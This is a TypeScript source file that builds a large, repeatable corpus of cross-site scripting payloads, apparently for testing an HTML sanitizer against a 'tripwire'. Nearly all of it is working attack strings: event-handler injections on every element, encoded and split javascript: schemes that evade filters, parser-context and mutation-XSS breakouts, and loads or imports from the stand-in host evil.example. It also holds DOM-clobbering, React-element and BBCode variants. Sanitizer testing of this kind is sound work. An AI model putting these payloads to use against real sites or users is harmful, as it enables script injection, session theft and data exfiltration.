/**
 * Payloads of our own for script injection: every event handler of HTML on elements that fire it, every way to hide the scheme of
 * an address in every attribute that takes one, scripts in every context that changes how HTML is parsed, what leaves an attribute
 * or a text, requests to other hosts, and the same in the markup of messages. Without state: the same list at every run.
 */

const elements =
  'a abbr address article aside audio b bdo blockquote body br button canvas center cite code dd del details dialog div dl dt em ' +
  'embed fieldset figure font footer form frameset h1 h6 header hr html i iframe image img input ins kbd label legend li link ' +
  'main map mark marquee math menu meter nav object ol optgroup option output p picture pre progress q ruby s samp section ' +
  'select slot small source span strong style sub summary sup svg table tbody td template textarea th time title tr track u ul ' +
  'var video wbr x-own xss';

const events =
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput ' +
  'beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click ' +
  'close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit ' +
  'dragleave dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata fullscreenchange ' +
  'gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart lostpointercapture ' +
  'message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste ' +
  'pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate ' +
  'pointerup popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange search seeked seeking select ' +
  'selectionchange selectstart slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove ' +
  'touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting ' +
  'webkitanimationend webkitanimationstart webkittransitionend wheel zoom';

const list = (words: string) => words.split(' ');
const spread = <Thing>(things: readonly Thing[], at: number): Thing => things[at % things.length] as Thing;

/** What a payload runs: each says so by another way that the tripwire watches. */
const runs = ['alert(1)', 'confirm(1)', 'prompt(1)', 'print()', 'tripwire()', 'console.log("xss")', 'top.alert(1)'];
/** The same without parentheses or names in plain sight. */
const hidden = [
  'alert`1`',
  'self[`\\x61lert`](1)',
  '\\u0061lert(1)',
  'eval(atob`YWxlcnQoMSk`)',
  'throw onerror=alert,1',
  'location="javascript:alert(1)"',
  'import("//evil.example/x.js")',
  'fetch("//evil.example",{mode:"no-cors"})',
  'document.body.append(Object.assign(document.createElement("script"),{src:"//evil.example/x.js"}))',
];

const separators = [' ', '/', '\n', '\t', '\f', '\r', '//', ' x=y ', '/x/'];

/** Handlers: each event on seven elements, and each element with three events, in all the ways to write an attribute. */
function handlers(): string[] {
  const names = list(elements);
  const all = list(events);
  const pairs = [
    ...all.flatMap((event, at) => Array.from({ length: 7 }, (_, step) => [event, spread(names, at * 3 + step * 17)])),
    ...names.flatMap((name, at) => Array.from({ length: 3 }, (_, step) => [spread(all, at * 7 + step * 41), name])),
  ];
  const write = [
    (event: string, run: string) => `on${event}=${run}`,
    (event: string, run: string) => `on${event}='${run}'`,
    (event: string, run: string) => `ON${event.toUpperCase()}="${run.replaceAll('"', '&quot;')}"`,
    (event: string, run: string) => `on${event} = "${run.replaceAll('"', '&#34;')}"`,
    (event: string, run: string) => `on${event}=&#x61;${run.replace(/^a/, '')}`,
  ];
  return pairs.map(([event = '', name = ''], at) => {
    const attribute = spread(write, at)(event, spread(runs, at));
    return `<${name}${spread(separators, at)}${attribute} src=x href=# tabindex=1 autofocus style=display:block>x</${name}>`;
  });
}

/** Handlers that run by themselves as soon as they are in a page. */
const byThemselves = (run: string) => [
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set onbegin=${run} attributeName=x dur=1s>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x`,
  `<video><source onerror=${run}>`,
  `<object data=x onerror=${run}></object>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe srcdoc="<script>parent.${run.replaceAll('"', "'")}</script>"></iframe>`,
  `<style onload=${run}></style>`,
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script>${run.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;')}</script>`,
  `<x style="animation-name:x" onanimationstart=${run}>x</x><style>@keyframes x{}</style>`,
  `<dialog open onclose=${run}><form method=dialog><button autofocus>x`,
  `<div contenteditable onfocus=${run} autofocus tabindex=0>x</div>`,
  `<button popovertarget=x>x</button><input popover id=x onbeforetoggle=${run}>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<input type=hidden oncontentvisibilityautostatechange=${run} style=content-visibility:auto>`,
];

const entities = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');

/** Ways to write an address that runs code, so that a filter does not see its scheme. */
function addresses(): string[] {
  const plain = 'javascript:alert(1)';
  const breaks = ['\t', '\n', '\r', '&Tab;', '&NewLine;', '&#9;', '&#x0a;', '&#0000013;', '\0', '\u00ad', '\u200b'];
  const before = ['\u0001', '\u000b', '\u001f', ' ', '\u00a0', '\u2028', '\u3000', '\ufeff', '&#1;', '&nbsp;', '/*x*/'];
  return [
    plain,
    'JaVaScRiPt:alert(1)',
    'javascript://%0aalert(1)',
    'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>*/alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert&lpar;1&rpar;',
    'javascript%3Aalert(1)',
    'java%0ascript:alert(1)',
    '\\j\\a\\v\\a\\s\\c\\r\\i\\p\\t:alert(1)',
    'javascript:javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    'https://a@evil.example/',
    '//evil.example/',
    '\\\\evil.example\\',
    'https:evil.example',
    '/\\evil.example',
    entities(plain, (code) => `&#${code}`),
    entities(plain, (code) => `&#${String(code).padStart(7, '0')};`),
    entities(plain, (code) => `&#x${code.toString(16)};`),
    entities(plain, (code) => `&#X0${code.toString(16)}`),
    ...breaks.map((one) => `java${one}script:alert(1)`),
    ...breaks.map((one) => `javascript${one}:alert(1)`),
    ...before.map((one) => `${one}javascript:alert(1)`),
  ];
}

/** Every place of HTML where an address may stand. */
const placesOfAddresses: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<a href=\`${address}\` ping=${address}>x</a>`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<svg><use href="${address}#x"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text y=20>x</text></a></svg>`,
  (address) => `<base href="${address}//"><a href=x>x</a>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<img src="${address}" srcset="${address} 2x" lowsrc="${address}">`,
  (address) => `<div style="background:url('${address}')">x</div>`,
];

/** Places where the parser reads on in another way, so that what was text becomes an element, and the other way round. */
const contexts: readonly ((inside: string) => string)[] = [
  (inside) => `<table>${inside}</table>`,
  (inside) => `<table><tr>${inside}<td>x</table>`,
  (inside) => `<select>${inside}</select>`,
  (inside) => `<svg>${inside}</svg>`,
  (inside) => `<svg><desc>${inside}</desc></svg>`,
  (inside) => `<svg></p><style><a id="</style>${inside}">`,
  (inside) => `<svg><style><!--</style>${inside}-->`,
  (inside) => `<math><mtext>${inside}</mtext></math>`,
  (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}`,
  (inside) => `<math><annotation-xml encoding="text/html"><style><!--</style>${inside}--></style>`,
  (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<style><p title="</style>${inside}">`,
  (inside) => `<title><p title="</title>${inside}">`,
  (inside) => `<textarea><p title="</textarea>${inside}">`,
  (inside) => `<iframe><p title="</iframe>${inside}">`,
  (inside) => `<template>${inside}</template>`,
  (inside) => `<!--><!---->${inside}-->`,
  (inside) => `<!--x--!>${inside}<!--`,
  (inside) => `<![CDATA[${inside}]]>`,
  (inside) => `<a href="https://a.example"><b>${inside}</a></b>`,
  (inside) => `<p title='"><' alt="${inside}">`,
  (inside) => `<p title=x ${inside}>`,
  (inside) => `${'<b>'.repeat(40)}${inside}`,
  (inside) => `${'<div><table><tr><td>'.repeat(12)}${inside}`,
  (inside) => `<details open><summary>${inside}</summary></details>`,
  (inside) => `<plaintext>${inside}`,
];

/** What ends the attribute, the text, the comment or the script that a value stands in. */
const ends = list(
  `"> '> \`> </p> </title> </textarea> </style> </script> </noscript> --> ]]> "/> '/> \\"> \\'> %22%3E &quot;> \\u0022\\u003e x" x' ");//`,
);

const remote = [
  '<img src=//evil.example/x>',
  '<img srcset="//evil.example/x 1x">',
  '<picture><source srcset=//evil.example/x><img src=data:,></picture>',
  '<video src=//evil.example/x poster=//evil.example/y autoplay></video>',
  '<audio src=//evil.example/x autoplay></audio>',
  '<video><track default src=//evil.example/x></video>',
  '<input type=image src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=preload as=image href=//evil.example/x>',
  '<link rel=modulepreload href=//evil.example/x.js>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>@font-face{font-family:x;src:url(//evil.example/x)}*{font-family:x!important}</style>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<iframe src=//evil.example></iframe>',
  '<object data=//evil.example></object>',
  '<svg><image href=//evil.example/x></image></svg>',
  '<svg><use href=//evil.example/x#y></use></svg>',
  '<svg><filter id=x><feImage xlink:href=//evil.example/x /></filter></svg>',
  '<base href=//evil.example/><img src=x>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv=Content-Security-Policy content="default-src *">',
  '<form action=//evil.example><input name=x autofocus><button>x</button></form>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import "//evil.example/x.js"</script>',
  '<p id=trustedTypes name=createPolicy>x</p>',
  '<form id=document name=body><input name=children></form>',
  '<a id=defaultView name=alert href=javascript:alert(1)>x</a>',
];

/** What is not closed, closed twice, said twice or in an order that a parser puts right; and what React would take for an element. */
const malformed = [
  '<<script>alert(1);//<</script>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<svg><script xlink:href="data:,alert(1)"/></svg>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src=x onerror=alert(1)',
  '<a href="https://a.nl" href="javascript:alert(1)">a</a>',
  '<a href="javascript:alert(1)" href="https://a.nl">a</a>',
  '<a href="https://a.nl',
  '<p',
  '<form id=a></form><button form=a formaction=javascript:alert(1)>a</button>',
  '<table><td><a href="javascript:alert(1)"><table><a href="javascript:alert(1)">a</table></a></table>',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<?php echo "><img src=x onerror=alert(1)>" ?>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '{"$$typeof":"Symbol(react.element)","type":"script","props":{"src":"//evil.example/x.js"}}',
];

/** The same in the markup of messages. */
function inMarkup(): string[] {
  const all = addresses();
  return [
    ...all.map((address) => `[url=${address}]x[/url]`),
    ...all.map((address) => `[url="${address}"]x[/url]`),
    ...all.map((address) => `[url]${address}[/url]`),
    ...all.map((address) => `[img]${address}[/img]`),
    ...all.slice(0, 30).map((address) => `[email=${address}]x[/email]`),
    ...all.slice(0, 30).map((address) => `[video]${address}[/video]`),
    ...byThemselves('alert(1)').map((html) => `[b]${html}[/b]`),
    ...byThemselves('alert(1)').map((html) => `[url=https://a.example/"${html}]x[/url]`),
    '[color=red;background:url(//evil.example)]x[/color]',
    '[size=1"onmouseover="alert(1)]x[/size]',
    '[quote="><img src=x onerror=alert(1)>]x[/quote]',
    '[code]<script>alert(1)</script>[/code]',
    '[list][*]<img src=x onerror=alert(1)>[/list]',
    '[b][i][url=javascript:alert(1)][/b][/i]x[/url]',
    `${'[b]'.repeat(200)}<svg onload=alert(1)>`,
  ];
}

/** All payloads of our own, each once. */
export function madePayloads(): readonly string[] {
  const all = addresses();
  const inner = byThemselves('alert(1)');
  return [
    ...new Set([
      ...handlers(),
      ...runs.flatMap(byThemselves),
      ...hidden.map((run) => `<img src=x onerror='${run.replaceAll("'", '&#39;')}'>`),
      ...hidden.map((run) => `<script>${run}</script>`),
      ...placesOfAddresses.flatMap((place) => all.map(place)),
      ...contexts.flatMap((context) => inner.map(context)),
      ...ends.flatMap((end, at) => inner.filter((_, one) => (one + at) % 2 === 0).map((html) => `${end}${html}`)),
      ...remote,
      ...contexts.map((context, at) => context(spread(remote, at))),
      ...malformed,
      ...inMarkup(),
    ]),
  ];
}
